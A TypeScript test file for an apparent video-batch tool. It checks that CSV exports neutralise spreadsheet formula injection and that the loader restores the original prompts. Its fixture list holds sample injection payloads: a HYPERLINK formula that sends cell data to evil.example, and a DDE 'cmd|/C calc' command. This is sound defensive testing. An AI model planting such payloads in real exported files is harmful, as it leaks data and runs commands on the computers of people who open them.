// CSV formula injection: every CSV vidbatch writes neutralises cells a spreadsheet would run, and the loader
// undoes exactly that, so an exported file runs again with the original text.
import { mkdtemp, readFile, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { runInNewContext } from 'node:vm';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import type { PromptResult } from '../../src/contract/prompt';
import { neutralizeFormula, restoreFormula } from '../../src/input/csv-formula';
import { parseCsv } from '../../src/input/csv';
import { exportResults, failedRowsCsv } from '../../src/results/export';
import { csvCells } from '../../src/review/csv-cells';

/** Prompts a spreadsheet would run, and neighbours that must pass unchanged. */
const PROMPTS = [
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  '+1+cmd|/C calc!A0',
  '-2 dogs on a beach',
  '@SUM(A1:A9)',
  '\t=1+1 after a tab',
  "'=already quoted by the user",
  "''-two quotes",
  "it's a plain prompt",
  'a = b, plainly',
];

function failed(i: number, prompt: string): PromptResult {
  return {
    rowId: `r${i}`,
    line: i + 2,
    prompt,
    model: 'm1',
    input: { prompt, style: '=cmd' },
    parameters: { resolution: '720P', duration: 5, seed: -1 },
    status: 'failed',
    errorCode: 'generation_failed', // not a content refusal: those are left out of failed.csv
    errorMessage: `=the gateway said no to ${i}`,
    attempts: 1,
    polls: 1,
    finishedAt: '2026-01-01T00:00:00.000Z',
  };
}

/** The review page's cell writer, taken from the page script itself (it runs in the browser). */
async function pageCsvCell(): Promise<(v: string) => string> {
  const script = await readFile(join(__dirname, '../../src/review/page-script.js'), 'utf8');
  const source = /function csvCell\(v\) \{[\s\S]*?\n {2}\}/.exec(script)?.[0];
  expect(source).toBeDefined();
  return runInNewContext(`(${source})`) as (v: string) => string;
}

describe('CSV formula neutralisation', () => {
  it("prefixes cells starting with = + - @ tab or CR (after any quotes) with ', and restores exactly them", () => {
    expect(neutralizeFormula('=1+1')).toBe("'=1+1");
    expect(neutralizeFormula('+1')).toBe("'+1");
    expect(neutralizeFormula('-1')).toBe("'-1");
    expect(neutralizeFormula('@x')).toBe("'@x");
    expect(neutralizeFormula('\t=x')).toBe("'\t=x");
    expect(neutralizeFormula('\r=x')).toBe("'\r=x");
    expect(neutralizeFormula("'=x")).toBe("''=x");
    for (const plain of ['plain', "it's", "'quoted", 'a=b', ' =x', ''])
      expect(neutralizeFormula(plain)).toBe(plain);
    for (const v of [...PROMPTS, "'", "''", "'x", '=', "'''@"])
      expect(restoreFormula(neutralizeFormula(v))).toBe(v);
    expect(restoreFormula("'=x")).toBe('=x');
    expect(restoreFormula("'plain")).toBe("'plain");
  });

  it('failed.csv round trip: exported neutralised, loaded back as the original prompts and values', async () => {
    const dir = await mkdtemp(join(tmpdir(), 'vidbatch-formula-'));
    const manifest = join(dir, 'manifest.jsonl');
    const results = PROMPTS.map((p, i) => failed(i, p));
    await writeFile(manifest, results.map((r) => JSON.stringify(r)).join('\n') + '\n');
    await exportResults(manifest, join(dir, 'out'), 'csv');

    const text = await readFile(join(dir, 'out', 'failed.csv'), 'utf8');
    // No cell of any exported file starts like a formula.
    for (const name of ['failed.csv', 'failed-errors.csv', 'succeeded.csv']) {
      const table: string[][] = parse(await readFile(join(dir, 'out', name), 'utf8'));
      for (const cell of table.flat()) expect(cell, `${name}: ${cell}`).not.toMatch(/^[=+\-@\t\r]/);
    }
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`);

    const loaded = parseCsv(text, 'failed.csv');
    expect(loaded.problems).toEqual([]);
    expect(loaded.rows.map((r) => r.prompt)).toEqual(PROMPTS);
    expect(loaded.rows[0]).toMatchObject({
      id: 'r0',
      input: { prompt: PROMPTS[0], style: '=cmd' },
      parameters: { seed: -1 },
    });

    const retry = await failedRowsCsv(manifest, dir, 'batch-x');
    const again = parseCsv(await readFile(retry.path, 'utf8'), retry.path);
    expect(again.rows.map((r) => r.prompt)).toEqual(PROMPTS);
  });

  it("the review page's redo export neutralises too, and its rows load as the original text", async () => {
    // The batch's CSV was itself an exported failed.csv: the gallery shows (and re-exports) the loaded values.
    const source =
      'id,prompt\n' + PROMPTS.map((p, i) => `r${i},"${neutralizeFormula(p).replace(/"/g, '""')}"`).join('\n');
    const { header, cells } = csvCells(source);
    expect([...cells.values()].map((c) => c[1])).toEqual(PROMPTS);
    const csvCell = await pageCsvCell();
    const exported = [header, ...cells.values()].map((row) => row.map(csvCell).join(',')).join('\n') + '\n';
    const table: string[][] = parse(exported);
    for (const cell of table.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(parseCsv(exported, 'redo.csv').rows.map((r) => r.prompt)).toEqual(PROMPTS);
  });
});
